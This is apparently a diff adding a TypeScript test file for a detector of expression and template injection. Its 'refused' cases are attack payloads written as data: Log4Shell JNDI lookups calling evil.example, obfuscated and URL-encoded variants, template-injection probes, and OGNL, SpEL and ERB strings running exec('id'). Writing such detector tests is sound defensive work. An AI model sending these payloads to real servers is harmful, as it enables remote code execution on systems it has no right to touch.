@@ -1,0 +1,45 @@
+/** Expressions that servers evaluate, folded and nested, and templates that only name a value. */
+import { describe, expect, test } from 'vitest'
+import type { Field } from '../model/request.ts'
+import { expression } from './expression.ts'
+import { asked } from './fixtures/asked.ts'
+
+describe('refused', () => {
+  test.each<[text: string, field?: Partial<Field>]>([
+    ['${jndi:ldap://evil.example/a}'],
+    ['${${lower:j}ndi:${lower:l}dap://evil.example/a}'],
+    ['${${::-j}${::-n}${::-d}${::-i}:rmi://x/y}'],
+    ['${j${env:NOPE:-n}di:dns://x}'],
+    ['{{7*7}}'],
+    ['${7*7}'],
+    ['#{7*7}'],
+    ["{{''.__class__.__mro__}}"],
+    ['{{config.items()}} {{ self.__init__ }}'],
+    ['%{(#_memberAccess=@ognl.OgnlContext@DEFAULT)}'],
+    ["(#a=@java.lang.Runtime@getRuntime()).exec('id')"],
+    ["T(java.lang.Runtime).getRuntime().exec('id')"],
+    ["<%= system('id') %>"],
+    ["{{constructor.constructor('alert(1)')()}}"],
+    ['class.module.classLoader.resources'],
+    ['%24%7Bjndi%3Aldap%3A%2F%2Fx%7D'],
+  ])('%s', (...[text, field]) => {
+    expect(asked(expression, text, field)).not.toBeNull()
+  })
+})
+
+describe('passes', () => {
+  test.each<[text: string, field?: Partial<Field>]>([
+    ['${name}'],
+    ['Dear {{ user.first_name }},'],
+    ['#{title}'],
+    ['{"a":{"b":1}}'],
+    ['\\frac{a}{b} and $x_{1}$'],
+    ['costs 7*7 = 49'],
+    ['{% if user %}hello{% endif %}'],
+    ['100%{ok}'],
+    ['${HOME}/bin'],
+    ['a {{ b }} c ${d} e'],
+  ])('%s', (...[text, field]) => {
+    expect(asked(expression, text, field)).toBeNull()
+  })
+})
